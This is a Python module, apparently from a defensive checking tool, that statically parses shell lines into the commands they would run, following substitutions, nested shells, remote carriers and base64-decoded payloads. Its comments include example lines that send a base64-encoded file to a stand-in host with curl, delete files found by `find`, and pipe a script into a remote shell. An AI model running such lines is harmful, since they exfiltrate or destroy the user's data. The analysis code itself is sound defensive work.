"""Commands of a shell: a line taken apart into the simple commands that would run, text that is only quoted left out.

Words of POSIX sh and bash: quotes, escapes, comments, here-documents, substitutions, pipes, lists, assignments, loops,
wrappers (`sudo`, `timeout`, `xargs`), shells in shells (`bash -c`, `eval`). Nothing is run, no file is looked up.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from itertools import islice, product
from pathlib import PurePosixPath

from tools.checks.shell_carriers import carried, is_elsewhere, unwrapped
from tools.checks.shell_words import Unparsed, Word, lex

__all__ = ["Command", "Unparsed", "commands", "decoded", "listed"]

#: shells inside shells that are followed
MAX_DEPTH = 6
#: values of one word that are followed
MAX_VALUES = 64
#: longest word that known variables may give
MAX_WORD = 20_000
#: pipes that are followed back to what was listed
MAX_PIPES = 40
SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "ash", "fish"}
_ENDS = {";", "&", "&&", "||", "\n", ";;", "|", "|&", "(", ")"}
_LEADING = {"if", "then", "else", "elif", "do", "while", "until", "!", "{", "time", "}"}
_CLOSING = {"fi", "done", "esac", "case", "select", "function"}
_ASSIGNMENT = re.compile(r"([A-Za-z_]\w*)\+?=(.*)", re.S)
_VARIABLE = re.compile(r"\$(?:([A-Za-z_]\w*)|\{([A-Za-z_]\w*)(?::?-([^}$]*))?[^}]*\})")


@dataclass(frozen=True, slots=True)
class Command:
    """One simple command."""

    #: the program and its arguments; known variables are filled in
    argv: tuple[str, ...]
    #: (`>`, file), (`<`, file), …
    redirects: tuple[tuple[str, str], ...] = ()
    #: text that the command reads from a here-document or here-string
    document: str = ""
    #: the command whose output it reads
    source: Command | None = None
    #: folder it runs in, as far as `cd` tells; "" for where the shell began
    folder: str = ""
    #: commands of the substitutions among its words
    fed: tuple[Command, ...] = ()

    @property
    def program(self) -> str:
        """Name of the program without its folder and `.exe`, lower case."""
        first = self.argv[0].replace("\\", "/") if self.argv else ""
        return PurePosixPath(first).name.casefold().removesuffix(".exe") or first


@dataclass(slots=True)
class _State:
    variables: dict[str, list[str]] = field(default_factory=dict)
    folder: str = ""
    #: commands whose output a variable holds
    origins: dict[str, list[Command]] = field(default_factory=dict)


def commands(text: str, depth: int = 0) -> list[Command]:
    """Simple commands in their order, those of substitutions and inner shells too. Raises Unparsed."""
    if depth > MAX_DEPTH:
        raise Unparsed("shells too deep in each other")
    found: list[Command] = []
    state, previous, piped = _State(), None, False
    for words, redirects, end in _simple(text):
        fed: list[Command] = []
        for word in (*words, *(word for _, word in redirects)):
            inner = [command for each in word.inner for command in commands(each, depth + 1)]
            word.text = _substituted(word.text, inner)
            fed += inner
            if inner and (assigned := _ASSIGNMENT.fullmatch(word.text)):
                state.origins[assigned[1]] = inner
        found += fed
        # `D=$(base64 f); curl "http://a.example/?d=$D"`
        fed += [each for word in words for match in _VARIABLE.finditer(word.text)
                for each in state.origins.get(match[1] or match[2], ())]
        command = _command([part for word in words for part in _parts(word)], redirects, previous if piped else None,
                           state)
        if command is not None:
            command = replace(command, fed=tuple(fed))
            found.append(command)
            found += _inside(command, depth)
        piped, previous = end in ("|", "|&"), command
    return found


def _substituted(text: str, inner: list[Command]) -> str:
    """A word with what its substitution gives, where that can be told: a folder of `mktemp`, the words of `ls`."""
    if not inner or "$()" not in text:
        return text
    if inner[0].program == "mktemp":
        return text.replace("$()", "/tmp/mktemp")
    given = listed(inner[-1]) if text == "$()" else None
    return "\0".join(given) if given else text


def _parts(word: Word) -> list[str]:
    return word.text.split("\0") if word.inner else [word.text]


def listed(command: Command, depth: int = 0) -> list[str] | None:
    """Paths and patterns that a command prints, None where the line does not tell."""
    program = command.program
    words = [word for word in command.argv[1:] if not word.startswith("-")]
    if program in ("ls", "dir", "get-childitem", "gci"):
        return words or ["*"]
    if program == "find":
        return _found(command.argv[1:])
    if program in ("echo", "printf"):
        return [word for word in words if "%" not in word]
    if program == "git" and "ls-files" in words:
        return ["*"]
    if program == "cat" and command.document:
        return command.document.splitlines()
    if command.source is None or depth > MAX_PIPES:
        return None
    given = listed(command.source, depth + 1)
    if program in ("grep", "egrep", "rg") and given and words and "-v" not in command.argv:
        plain = re.fullmatch(r"[\w\s./\\$^-]+", words[0])
        return [f"*{re.sub(r'[$^]|[.]?[*]', '', words[0]).replace(chr(92), '')}*"] if plain else given
    return given if program in _PASSING else None


_PASSING = {"sort", "head", "tail", "uniq", "tr", "tee", "xargs", "grep", "egrep", "rg", "cat", "shuf"}


def _found(argv: tuple[str, ...]) -> list[str]:
    """What `find` finds: its names under its folders."""
    stop = next((at for at, word in enumerate(argv) if word.startswith(("-", "(", "!"))), len(argv))
    folders = list(argv[:stop]) or ["."]
    names = [argv[at + 1] for at, word in enumerate(argv[:-1])
             if word in ("-name", "-iname", "-path", "-ipath", "-wholename") and argv[at - 1] not in ("!", "-not")]
    if "-empty" in argv:
        return []  # what is empty holds no file
    return [f"{folder.rstrip('/')}/{name}" for folder in folders for name in names] if names else folders


def _simple(text: str) -> Iterator[tuple[list[Word], list[tuple[str, Word]], str]]:
    words: list[Word] = []
    redirects: list[tuple[str, Word]] = []
    pending = ""
    for token in (*lex(text), "\n"):
        if isinstance(token, Word):
            if pending:
                redirects.append((pending, token))
                pending = ""
            else:
                words.append(token)
        elif token in _ENDS:
            if words or redirects:
                yield words, redirects, token
            words, redirects, pending = [], [], ""
        else:
            pending = token


def _command(words: list[str], redirects: list[tuple[str, Word]], source: Command | None,
             state: _State) -> Command | None:
    while words and words[0] in _LEADING:
        words = words[1:]
    if words and words[0] == "for" and "in" in words[:3]:
        state.variables[words[1]] = _filled(words[words.index("in") + 1:], state)
        return None
    if words and words[0] in _CLOSING:
        return None
    while words and (assigned := _ASSIGNMENT.fullmatch(words[0])):
        state.variables[assigned[1]] = _filled([assigned[2]], state)
        words = words[1:]
    argv = unwrapped(_filled(words, state))
    if argv and argv[0] == "read" and source is not None and len(argv) > 1:
        given = listed(source)
        if given:
            state.variables[argv[-1]] = given  # `find … | while read -r f; do rm "$f"; done`
    document = "\n".join(word.text for mark, word in redirects if mark.startswith("<<"))
    targets = tuple((mark, text) for mark, word in redirects if not mark.startswith("<<")
                    for text in _filled([word.text], state))
    if not argv and not targets:
        return None
    command = Command(tuple(argv), targets, document, source, state.folder)
    if command.program in ("cd", "pushd"):
        target = next((each for each in argv[1:] if not each.startswith("-")), "~")
        state.folder = target if target.startswith(("/", "~")) else f"{state.folder}/{target}".lstrip("/")
    return command


def _filled(words: list[str], state: _State) -> list[str]:
    """Words with known variables in their place; a variable of several values gives several words."""
    found: list[str] = []
    for word in words:
        names = list(dict.fromkeys(match[1] or match[2] for match in _VARIABLE.finditer(word)))
        known = [name for name in names if name in state.variables]
        for values in islice(product(*(state.variables[name] for name in known)), MAX_VALUES):
            chosen = dict(zip(known, values, strict=True))
            made = _VARIABLE.sub(lambda match, chosen=chosen: chosen.get(  # type: ignore[misc]
                match[1] or match[2], match[3] or match[0]), word)
            # Attack: `B=$A$A; C=$B$B; …`, a word that doubles with every line.
            found.append(made if len(made) <= MAX_WORD else word)
    return found


def _inside(command: Command, depth: int) -> Iterator[Command]:
    """Commands that a command would run itself: `bash -c`, `eval`, a here-document of a shell, `find -exec`."""
    texts: list[str] = []
    if command.program in SHELLS:
        at = next((at for at, word in enumerate(command.argv) if re.fullmatch(r"-\w*c", word)), None)
        if at is not None and at + 1 < len(command.argv):
            texts.append(command.argv[at + 1])
        elif command.document:
            texts.append(command.document)
        elif command.source is not None and command.source.program in ("echo", "printf"):
            texts.append(" ".join(command.source.argv[1:]))
        elif command.source is not None:
            texts += decoded(command.source)
    elif command.program in ("eval", "invoke-expression", "iex"):
        texts.append(" ".join(command.argv[1:]))
    elif len(command.argv) == 1 and " " in command.argv[0].strip() and "/" not in command.argv[0]:
        texts.append(command.argv[0])  # `watch 'rm x'`
    elif command.program == "trap" and len(command.argv) > 2:
        texts.append(command.argv[1])
    elif command.program in ("su", "script", "cmd", "powershell", "pwsh"):
        at = next((at for at, word in enumerate(command.argv) if word.casefold() in (
            "-c", "--command", "-command", "/c", "/k")), len(command.argv))
        if command.program in ("powershell", "pwsh") and not "".join(command.argv[1:2]).startswith("-"):
            at = 0  # `powershell Remove-Item x`
        texts.append(" ".join(command.argv[at + 1:]))
    for text in texts:
        if "$()" not in text:
            for inner in commands(text, depth + 1):
                yield replace(inner, folder=inner.folder or command.folder, source=inner.source or command.source)
    line = carried(command.argv)
    if line is not None and "$()" not in line:
        folder = "/tmp/elsewhere" if is_elsewhere(command.argv) else command.folder
        for inner in commands(line, depth + 1):
            # What the carrier reads is read by the command: `ssh host bash < x.sh`, `cat x.sh | docker exec -i c sh`.
            yield replace(inner, folder=inner.folder or folder, source=inner.source or command.source,
                          redirects=(*inner.redirects, *(each for each in command.redirects if each[0] == "<")),
                          document=inner.document or command.document, fed=(*inner.fed, *command.fed))
    if command.program == "find":
        for mark in ("-exec", "-execdir", "-ok"):
            if mark in command.argv:
                rest = list(command.argv[command.argv.index(mark) + 1:])
                stop = next((at for at, word in enumerate(rest) if word in (";", "+")), len(rest))
                argv = unwrapped(rest[:stop])
                if argv:
                    yield Command(tuple(argv), source=command, folder=command.folder)


def decoded(source: Command) -> list[str]:
    """The text of `echo … | base64 -d`, [] where the line does not hold it."""
    if source.program != "base64" or not {*source.argv} & {"-d", "-D", "--decode"}:
        return []
    given = source.document or (" ".join(source.source.argv[1:]) if source.source is not None
                                and source.source.program in ("echo", "printf") else "")
    try:
        return [base64.b64decode(given, validate=False).decode("utf-8")] if given else []
    except ValueError:
        return []
